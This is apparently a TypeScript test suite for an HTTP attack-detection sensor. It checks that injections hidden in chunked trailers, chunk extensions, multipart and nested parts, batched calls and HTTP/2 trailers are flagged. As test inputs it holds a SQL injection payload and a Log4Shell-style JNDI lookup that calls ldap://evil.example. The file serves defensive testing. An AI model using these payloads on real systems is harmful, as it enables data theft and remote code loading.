/** Places of a request that readers of fields and bodies pass over, and what is said where something could not be looked into. */
import type { Exchange } from '@apiscope/schema'
import fc from 'fast-check'
import { data, frame, headers, message } from '../../../http/test/support/grpc-wire'
import { SensorCore } from '../../src/core'
import { FIXTURE_KEY } from '../../src/options'
import { Conversation } from '../support/conversation'

const SQLI = "x' UNION SELECT NULL,login,secret FROM staff-- -"
const JNDI = '${jndi:ldap://evil.example/a}'
const ANSWER = 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n'

function core(all: Exchange[]): SensorCore {
  return new SensorCore(
    { sensor: 's', hmacKey: FIXTURE_KEY },
    { exchange: (e) => void all.push(e), actor() {}, heartbeat() {} },
  )
}

/** The exchange of a request that is sent in segments of `size` bytes. */
function seen(request: string | Buffer, size = 1460): Exchange {
  const all: Exchange[] = []
  const sensor = core(all)
  new Conversation(sensor, '198.51.100.1', 40_000).open().send(0, request, size).send(1, ANSWER).close()
  sensor.finish()
  // Calls of a batch are told beside it.
  const carriers = all.filter(({ message }) => message === undefined)
  expect(carriers).toHaveLength(1)
  return carriers[0]!
}

const HEAD = 'POST /orders HTTP/1.1\r\nHost: shop.example\r\n'
const chunked = (body: string, type = 'application/json') =>
  `${HEAD}Content-Type: ${type}\r\nTransfer-Encoding: chunked\r\n\r\n${body}`
const multipart = (body: string, boundary = 'B') =>
  `${HEAD}Content-Type: multipart/mixed; boundary=${boundary}\r\nContent-Length: ${body.length}\r\n\r\n${body}`
const places = ({ attacks }: Exchange) => attacks?.map(({ in: place, name }) => `${place} ${name}`) ?? []

const deepMultipart = (levels: number, inner: string): string => {
  let body = inner
  for (let i = levels; i > 0; i--)
    body = `--b${i}\r\nContent-Type: multipart/mixed; boundary=b${i + 1}\r\n\r\n${body}\r\n--b${i}--\r\n`
  return body
}

const CASES: [string, string, string][] = [
  ['a trailer', chunked(`7\r\n{"n":1}\r\n0\r\nX-Trace: ${JNDI}\r\n\r\n`), 'header x-trace'],
  [
    'a cookie among the trailers',
    chunked(`7\r\n{"n":1}\r\n0\r\nA: b\r\nCookie: track=${JNDI}\r\n\r\n`),
    'cookie track',
  ],
  ['a trailer with bare line feeds', chunked(`7\n{"n":1}\n0\nX-Trace: ${SQLI}\n\n`), 'header x-trace'],
  [
    'the 201st trailer',
    chunked(`7\r\n{"n":1}\r\n0\r\n${'A: b\r\n'.repeat(200)}X-Trace: ${SQLI}\r\n\r\n`),
    'header x-trace',
  ],
  ['a chunk extension', chunked(`7;x="${JNDI}"\r\n{"n":1}\r\n0\r\n\r\n`), 'header (chunk)'],
  ['an extension of the last chunk', chunked(`7\r\n{"n":1}\r\n0;q=${SQLI}\r\n\r\n`), 'header (chunk)'],
  ['an extension behind a blank', chunked(`7 ;a ;q=${SQLI}\r\n{"n":1}\r\n0\r\n\r\n`), 'header (chunk)'],
  [
    'a field of a part',
    multipart(`--B\r\nContent-Type: text/plain\r\nX-Note: ${JNDI}\r\n\r\nhello\r\n--B--\r\n`),
    'request (part)',
  ],
  ['the type of a part', multipart(`--B\r\nContent-Type: ${JNDI}\r\n\r\nhello\r\n--B--\r\n`), 'request (part)'],
  [
    'a field of a nested part',
    multipart(deepMultipart(2, `--b3\r\nContent-Id: ${SQLI}\r\n\r\nx\r\n--b3--`), 'b1'),
    'request (part)',
  ],
  [
    'a field of a call in a batch',
    multipart(`--B\r\nContent-Type: application/http\r\n\r\nGET /a HTTP/1.1\r\nX-Note: ${JNDI}\r\n\r\n\r\n--B--\r\n`),
    'request (part)',
  ],
  [
    'a part below the levels that are entered',
    multipart(deepMultipart(5, `--b6\r\nA: b\r\n\r\n${SQLI}\r\n--b6--`), 'b1'),
    'request (deep)',
  ],
  ['a part whose head does not end', multipart(`--B\r\nA: b\r\nX-Note: ${SQLI}\r\n--B--\r\n`), 'request (deep)'],
  [
    'a part behind a long head',
    multipart(`--B\r\nX-Pad: ${'a'.repeat(9_000)}\r\n\r\n${SQLI}\r\n--B--\r\n`),
    'request (deep)',
  ],
  ['text in front of the first boundary', multipart(`${SQLI}\r\n--B\r\nA: b\r\n\r\nx\r\n--B--\r\n`), 'request (deep)'],
  ['text behind the last boundary', multipart(`--B\r\nA: b\r\n\r\nx\r\n--B--\r\n${SQLI}`), 'request (deep)'],
  ['a line of the head that is no field', `${HEAD}${SQLI}\r\nContent-Length: 0\r\n\r\n`, 'header (line)'],
  ['the 300th field', `${HEAD}${'A: b\r\n'.repeat(300)}X-Trace: ${JNDI}\r\nContent-Length: 0\r\n\r\n`, 'header (line)'],
]

test.each(CASES)('K9: an attack is seen in %s', (_what, request, place) => {
  for (const size of [1460, 7]) {
    const exchange = seen(request, size)
    expect(places(exchange)).toContain(place)
    for (const { shape } of exchange.attacks!) expect(shape).not.toMatch(/staff|login|evil/)
  }
})

test('trailers and chunk extensions of ordinary clients have no verdict', () => {
  const signature = 'ad80c730a1e5b8d04586a2213dd63151f0b2d2d0cbc6b9d6f9b6ba2ef3b7f0a1'
  const exchange = seen(
    chunked(
      `7;chunk-signature=${signature}\r\n{"n":1}\r\n0;chunk-signature=${signature}\r\nx-amz-checksum-crc32c: sOO8/Q==\r\nServer-Timing: db;dur=53, app;dur=47.2\r\n\r\n`,
    ),
  )
  expect(exchange.attacks).toBeUndefined()
  expect(exchange.scored).toBe(true)
})

test('K9: a trailer of an HTTP/2 request is searched', () => {
  const all: Exchange[] = []
  const sensor = core(all)
  const request = {
    ':method': 'POST',
    ':scheme': 'http',
    ':path': '/shop.Orders/Place',
    ':authority': 'shop.example',
    'content-type': 'application/grpc',
  }
  const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
  new Conversation(sensor, '198.51.100.1', 40_000)
    .open()
    .send(
      0,
      Buffer.concat([
        Buffer.from(preface),
        frame(4, 0, 0, ''),
        headers(1, request),
        data(1, message('\x08\x01')),
        headers(1, { 'x-note': JNDI }, true),
      ]),
    )
    .send(
      1,
      Buffer.concat([
        frame(4, 0, 0, ''),
        headers(1, { ':status': '200', 'content-type': 'application/grpc' }),
        headers(1, { 'grpc-status': '0' }, true),
      ]),
    )
    .close()
  sensor.finish()
  expect(all).toHaveLength(1)
  expect(places(all[0]!)).toEqual(['header x-note'])
  expect(all[0]!.scored).toBe(true)
})

test('a request that was searched in part says so', () => {
  const plain = (body: string, fields = '') => `${HEAD}${fields}Content-Length: ${body.length}\r\n\r\n${body}`
  const partly: [string, string][] = [
    ['too many extensions', chunked(`${`1;${'a'.repeat(4_000)}\r\nx\r\n`.repeat(6)}0\r\n\r\n`)],
    ['too many trailers', chunked(`1\r\nx\r\n0\r\n${'A: b\r\n'.repeat(300)}\r\n`)],
    ['a body that ends early', `${HEAD}Content-Length: 100\r\n\r\n{"a":`],
    [
      'more suspicious values than are paid for',
      plain(`[${Array(3_000).fill(`"'\\\\"`).join(',')}]`, 'Content-Type: application/json\r\n'),
    ],
    ['levels that nobody enters', multipart(deepMultipart(5, '--b6\r\nA: b\r\n\r\nx\r\n--b6--'), 'b1')],
  ]
  const told = partly.map(([what, request]) => [what, seen(request).scored])
  expect(told).toEqual(partly.map(([what]) => [what, 'partly']))
  expect(seen(plain('{"n":1}', 'Content-Type: application/json\r\n')).scored).toBe(true)
  expect(seen(`GET / HTTP/1.1\r\nHost: a.example\r\n\r\n`).scored).toBe(true)
})

test('what is said of a request does not depend on how segments cut it', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...CASES.map(([, request]) => request)),
      fc.integer({ min: 1, max: 400 }),
      (request, size) => {
        const [whole, cut] = [seen(request), seen(request, size)]
        expect([cut.attacks, cut.scored]).toEqual([whole.attacks, whole.scored])
      },
    ),
    { numRuns: 40 },
  )
})
